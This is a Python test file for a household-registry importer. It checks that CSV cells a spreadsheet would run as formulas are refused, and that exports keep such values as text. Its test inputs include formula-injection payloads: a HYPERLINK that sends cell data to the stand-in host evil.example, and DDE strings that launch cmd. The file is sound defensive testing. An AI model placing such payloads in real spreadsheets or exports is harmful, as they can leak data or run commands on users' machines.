"""Finding 11 of issue 14: cells a spreadsheet would run as formulas are refused on import
with the reason, and what fanpin writes into spreadsheets is always text."""

import csv
import io

import openpyxl
import pytest

from households import importer, spreadsheets
from households.importer import import_registry
from households.models import Household
from tests import factories as f

HEADER = "户编号,村,住址,户类型,姓名,身份证号码,与户主关系,联系电话"


def _import(world, *rows):
    data = "\r\n".join([HEADER, *rows]).encode("utf-8")
    return import_registry(io.BytesIO(data), "x.csv", user=world.village_cadre)


@pytest.mark.parametrize(
    "column, value",
    [
        ("number", '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"'),
        ("name", "\"=cmd|' /C calc'!A0\""),
        ("address", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("address", "+1+1"),
        ("address", "-2+3+cmd|' /C calc'!A0"),
        ("name", '"\t=1+1"'),
        ("name", "＝1+1"),
    ],
)
def test_import_refuses_formula_cells_with_the_reason(world, column, value):
    cells = {"number": "F-1", "name": "张三", "address": "一组"}
    cells[column] = value
    row = f"{cells['number']},东山村,{cells['address']},一般农户,{cells['name']},{f.valid_id()},户主,13912345678"
    report = _import(world, row)
    assert report.households_created == 0
    assert any("当作公式执行" in issue.message for issue in report.errors), [i.message for i in report.errors]
    assert not Household.objects.filter(address__contains="cmd").exists()
    assert not Household.objects.filter(number__startswith="=").exists()


@pytest.mark.parametrize("phone", ["+86 139 1234 5678", "-", "0371-12345678"])
def test_signed_numbers_and_phones_are_not_formulas(world, phone):
    report = _import(world, f"F-2,东山村,一组,一般农户,张三,{f.valid_id()},户主,{phone if phone != '-' else ''}")
    assert report.households_created == 1, [i.message for i in report.errors]
    assert not spreadsheets.formula_like(phone)


def test_text_workbook_writes_formula_text_as_text():
    data = spreadsheets.text_workbook(
        [("表", ["户编号", "姓名"], [['=HYPERLINK("http://x","y")', "=cmd|'/C calc'!A0"]])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for c in sheet[2]:
        assert c.data_type == "s"
        assert c.value.startswith("=")


def test_text_csv_prefixes_what_would_run():
    data = spreadsheets.text_csv(["a", "b", "c", "d"], [["=1+1", "@x", "+86 139 1234 5678", "\t=2"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'=1+1", "'@x", "+86 139 1234 5678", "'\t=2"]


def test_the_import_template_keeps_a_formula_like_village_name_as_text():
    sheet = openpyxl.load_workbook(io.BytesIO(importer.template_xlsx("=cmd|' /C calc'!A0"))).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
    text = importer.template_csv("=cmd|' /C calc'!A0").decode("utf-8-sig")
    assert ",'=cmd" in text
